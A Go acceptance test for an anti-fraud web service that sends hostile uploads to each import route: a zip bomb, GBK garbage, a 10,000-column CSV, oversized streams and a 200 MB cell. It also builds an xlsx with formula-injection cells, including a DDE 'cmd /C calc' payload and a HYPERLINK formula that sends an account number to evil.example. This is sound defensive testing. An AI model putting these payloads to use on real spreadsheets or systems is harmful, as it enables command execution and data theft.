package server

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"math/rand"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"os"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/fanzha/fanzha/internal/db"
	"github.com/fanzha/fanzha/internal/db/dbtest"
	"github.com/fanzha/fanzha/internal/tabular"
	"github.com/fanzha/fanzha/internal/tabular/tabulartest"
	"github.com/fanzha/fanzha/internal/web"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
)

// memoryWatch samples the heap while uploads run and reads the process's
// peak resident size (VmHWM), reset at the start where Linux allows it.
type memoryWatch struct {
	stop     chan struct{}
	wg       sync.WaitGroup
	mu       sync.Mutex
	baseHeap uint64
	peakHeap uint64
	hwmReset bool
	baseRSS  uint64 // resident size at the start, after the reset
}

// procStatus reads a size field ("VmHWM:", "VmRSS:") of /proc/self/status
// in bytes (0 when the kernel does not tell).
func procStatus(field string) uint64 {
	f, err := os.Open("/proc/self/status")
	if err != nil {
		return 0
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if v, ok := strings.CutPrefix(sc.Text(), field); ok {
			kb, _ := strconv.ParseUint(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			return kb << 10
		}
	}
	return 0
}

func watchMemory() *memoryWatch {
	// Earlier tests' garbage is returned to the system first, so that the
	// peak measured is this test's.
	debug.FreeOSMemory()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	m := &memoryWatch{stop: make(chan struct{}), baseHeap: ms.HeapInuse, peakHeap: ms.HeapInuse}
	// "5" resets the peak resident set size (proc(5), clear_refs).
	m.hwmReset = os.WriteFile("/proc/self/clear_refs", []byte("5"), 0) == nil
	m.baseRSS = procStatus("VmRSS:")
	m.wg.Add(1)
	go func() {
		defer m.wg.Done()
		tick := time.NewTicker(5 * time.Millisecond)
		defer tick.Stop()
		var ms runtime.MemStats
		for {
			select {
			case <-m.stop:
				return
			case <-tick.C:
				runtime.ReadMemStats(&ms)
				m.mu.Lock()
				m.peakHeap = max(m.peakHeap, ms.HeapInuse)
				m.mu.Unlock()
			}
		}
	}()
	return m
}

// done stops the sampling and returns the heap's growth and the peak RSS
// in bytes (0 when the kernel does not tell).
func (m *memoryWatch) done() (heapGrowth, peakRSS uint64) {
	close(m.stop)
	m.wg.Wait()
	return m.peakHeap - m.baseHeap, procStatus("VmHWM:")
}

// abuseFile is a hostile upload: bytes, or a stream of n filler bytes
// after head (never held by the test).
type abuseFile struct {
	name, what string
	data       []byte
	head       string
	n          int64
	want       string // a word the answer must contain ("" for none)
}

func (a abuseFile) reader() io.Reader {
	if a.data != nil {
		return bytes.NewReader(a.data)
	}
	return io.MultiReader(strings.NewReader(a.head), io.LimitReader(filler('x'), a.n), strings.NewReader("\n"))
}

// multipartStream streams a multipart body: the CSRF field, extra fields
// and one file.
func multipartStream(csrf string, fields map[string]string, field string, file abuseFile) (io.Reader, string) {
	var head bytes.Buffer
	mw := multipart.NewWriter(&head)
	if csrf != "" {
		_ = mw.WriteField("csrf_token", csrf)
	}
	for k, v := range fields {
		_ = mw.WriteField(k, v)
	}
	_, _ = mw.CreateFormFile(field, file.name)
	tail := "\r\n--" + mw.Boundary() + "--\r\n"
	return io.MultiReader(bytes.NewReader(head.Bytes()), file.reader(), strings.NewReader(tail)), mw.FormDataContentType()
}

// The acceptance suite of issue 18: every upload route gets oversized
// files, a zip bomb, GBK garbage, 10,000 columns, formula cells and a
// 200 MB cell. None answers 500, each refusal says why in Chinese, the
// process stays under 500 MB resident (the server runs in it) and the
// temporary directory is empty after every upload.
func TestUploadAbuse(t *testing.T) {
	if testing.Short() {
		t.Skip("streams hundreds of MB")
	}
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)

	bomb, err := tabulartest.Bomb()
	if err != nil {
		t.Fatal(err)
	}
	rnd := rand.New(rand.NewSource(18))
	garbage := make([]byte, 2<<20)
	rnd.Read(garbage)
	gbkHead, _ := simplifiedchinese.GBK.NewEncoder().Bytes([]byte("账号,交易时间,交易金额,摘要\n"))
	gbkGarbage := append(gbkHead, garbage...)
	var wide strings.Builder
	for i := 0; i < 10000; i++ {
		if i > 0 {
			wide.WriteByte(',')
		}
		fmt.Fprintf(&wide, "列%d", i)
	}
	wide.WriteString("\n")
	wide.WriteString(strings.Repeat("1,", 9999) + "1\n")
	fx := excelize.NewFile()
	_ = fx.SetSheetRow("Sheet1", "A1", &[]any{"账号", "交易时间", "交易金额", "摘要", "姓名", "手机号"})
	_ = fx.SetSheetRow("Sheet1", "A2", &[]any{"6222000000000001", "2026-10-01 10:00:00", "100.00", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)"})
	_ = fx.SetCellFormula("Sheet1", "D3", `HYPERLINK("http://evil.example/?"&A2,"点击")`)
	_ = fx.SetSheetRow("Sheet1", "A3", &[]any{"6222000000000001", "2026-10-01 10:01:00", "-5.00"})
	_ = fx.SetCellFormula("Sheet1", "C4", "1/0")
	var formulas bytes.Buffer
	if err := fx.Write(&formulas); err != nil {
		t.Fatal(err)
	}

	files := []abuseFile{
		{name: "bomb.xlsx", what: "zip bomb", data: bomb, want: "压缩炸弹"},
		{name: "gbk.csv", what: "GBK garbage", data: gbkGarbage},
		{name: "wide.csv", what: "10,000 columns", data: []byte(wide.String()), want: "10000 列"},
		{name: "formulas.xlsx", what: "formula cells", data: formulas.Bytes()},
	}

	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		h := f.srv.Config.Handler
		adminCookie, adminCSRF := sessionOf(t, f, "admin")
		_, gridCSRF := sessionOf(t, f, "grid")
		gridCookie, _ := sessionOf(t, f, "grid")
		_ = gridCSRF

		before := map[string]bool{}
		if entries, err := os.ReadDir(tmp); err == nil {
			for _, e := range entries {
				before[e.Name()] = true
			}
		}
		assertClean := func(what string) {
			t.Helper()
			entries, _ := os.ReadDir(tmp)
			for _, e := range entries {
				if !before[e.Name()] {
					t.Errorf("%s: %s left in the temporary directory", what, e.Name())
					_ = os.RemoveAll(tmp + "/" + e.Name())
				}
			}
		}

		type route struct {
			path, field string
			console     bool
			fields      map[string]string
		}
		routes := []route{
			{"/api/v1/statements/import", "file", false, map[string]string{"mapping": "signed"}},
			{"/api/v1/warnings/import", "file", false, nil},
			{"/api/v1/intel/outlets/import", "file", false, nil},
			{"/api/v1/areas/import", "file", false, nil},
			{"/statements/import", "file", true, nil},
			{"/warnings/import", "file", true, nil},
			{"/admin/users/import", "file", true, nil},
			{"/admin/roster/import", "file", true, nil},
			{"/admin/areas/import", "file", true, nil},
		}
		// send streams a multipart upload straight to the server's handler
		// (in this process: what it holds is what the test measures).
		send := func(rt route, file abuseFile, declare int64, cookie *http.Cookie, csrf, bearer string) *httptest.ResponseRecorder {
			body, ct := multipartStream(csrf, rt.fields, rt.field, file)
			req := httptest.NewRequest("POST", rt.path, body)
			req.Header.Set("Content-Type", ct)
			req.ContentLength = -1
			if declare > 0 {
				req.ContentLength = declare
			}
			if bearer != "" {
				req.Header.Set("Authorization", "Bearer "+bearer)
			} else {
				req.AddCookie(cookie)
			}
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, req)
			return rec
		}

		mem := watchMemory()
		for _, rt := range routes {
			cookie, csrf, bearer := adminCookie, adminCSRF, ""
			if !rt.console {
				csrf, bearer = "", f.tokens["admin"]
			}
			limit := web.RouteBodyLimits["POST "+rt.path]
			cases := append([]abuseFile{}, files...)
			var declare int64
			if limit > 64<<20 {
				// The statement routes: a declared size over the limit is
				// refused unread (streaming 512 MB is tested once below).
				declare = limit + 1
			}
			cases = append(cases, abuseFile{name: "big.csv", what: "oversized", head: "账号,摘要\n1,", n: limit + 8<<20, want: "文件过大"})
			for _, file := range cases {
				d := int64(0)
				if file.what == "oversized" {
					d = declare
				}
				rec := send(rt, file, d, cookie, csrf, bearer)
				what := fmt.Sprintf("%s %s", rt.path, file.what)
				if rec.Code >= 500 {
					t.Errorf("%s: %d %.300s", what, rec.Code, rec.Body.String())
				}
				if file.what == "oversized" && rec.Code != http.StatusRequestEntityTooLarge {
					t.Errorf("%s: %d, want 413", what, rec.Code)
				}
				if file.want != "" && !strings.Contains(rec.Body.String(), file.want) {
					t.Errorf("%s: %d, the answer does not say %q: %.300s", what, rec.Code, file.want, rec.Body.String())
				}
				assertClean(what)
			}
		}

		// A 200 MB cell in a statement: refused at its row, nothing of it
		// stored.
		huge := abuseFile{name: "huge.csv", what: "200 MB cell",
			head: "账号,交易时间,交易金额,余额,对方账号,摘要\n6222000000000009,2026-10-01 10:00:00,1.00,1.00,6222000000000008,\"", n: 200 << 20}
		rec := send(routes[0], huge, 0, nil, "", f.tokens["admin"])
		if rec.Code >= 500 || !strings.Contains(rec.Body.String(), "第 2 行") {
			t.Errorf("200 MB cell: %d %.300s", rec.Code, rec.Body.String())
		}
		var longest int64
		if err := d.QueryRow(t.Context(), `SELECT COALESCE(MAX(LENGTH(summary)), 0) FROM statement_rows`).Scan(&longest); err != nil {
			t.Fatal(err)
		}
		if longest > tabular.MaxCellBytes {
			t.Errorf("a summary of %d bytes was stored", longest)
		}
		assertClean("200 MB cell")

		// The photo route: an oversized upload streamed in full, and a
		// "photo" of GBK garbage.
		event := map[string]string{"title": "反诈宣传进村", "area_id": itoa(f.stA.ID)}
		photoRoute := route{"/prevention/events", "photos", true, event}
		_, gridCSRF = sessionOf(t, f, "grid")
		for _, file := range []abuseFile{
			{name: "big.jpg", what: "oversized photos", head: "\xff\xd8\xff\xe0", n: web.MaxEventBody + 8<<20, want: "文件过大"},
			{name: "gbk.jpg", what: "GBK garbage photo", data: gbkGarbage[:1<<20]},
		} {
			rec := send(photoRoute, file, 0, gridCookie, gridCSRF, "")
			if rec.Code >= 500 || rec.Code < 400 || (file.want != "" && !strings.Contains(rec.Body.String(), file.want)) {
				t.Errorf("%s: %d %.300s", file.what, rec.Code, rec.Body.String())
			}
			assertClean(file.what)
		}

		heap, rss := mem.done()
		t.Logf("heap grew at most %d MB; peak RSS %d MB from %d MB at the start (reset at start: %v)", heap>>20, rss>>20, mem.baseRSS>>20, mem.hwmReset)
		if heap > 300<<20 {
			t.Errorf("the heap grew by %d MB during the uploads", heap>>20)
		}
		// What the uploads add to the process: its resident size before
		// them is the earlier tests'. Under -race the detector's shadow
		// memory grows with every heap byte touched (223 MB of heap showed
		// as 662 MB more resident in CI), so there only the heap is held.
		if !raceBuild && mem.hwmReset && mem.baseRSS > 0 && rss > mem.baseRSS+500<<20 {
			t.Errorf("peak resident size %d MB, %d MB over the start, want under 500 MB more", rss>>20, (rss-mem.baseRSS)>>20)
		}
	})
}
